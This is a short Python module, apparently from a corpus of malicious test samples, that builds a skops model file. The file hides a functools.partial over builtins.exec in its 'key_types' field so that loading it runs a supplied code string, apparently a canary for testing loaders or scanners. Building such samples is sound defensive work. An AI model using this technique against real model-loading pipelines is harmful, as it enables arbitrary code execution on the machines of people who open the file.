"""PartialNode over a forbidden function; a key type calls it."""

from __future__ import annotations

from malicious_samples.recipes import dictionary, json_node, node, python, sequence, skops


def build(canary: str) -> bytes:
    empty = dictionary()
    content = {
        "func": node("TypeNode", "builtins", "exec"),
        "kwds": empty,
        "namespace": empty,
        "args": sequence("tuple", json_node(python(canary))),
    }
    partial = node("PartialNode", "functools", "partial", content=content)
    root = dictionary(a=json_node(1))
    root["key_types"] = sequence("list", partial)
    return skops(root)
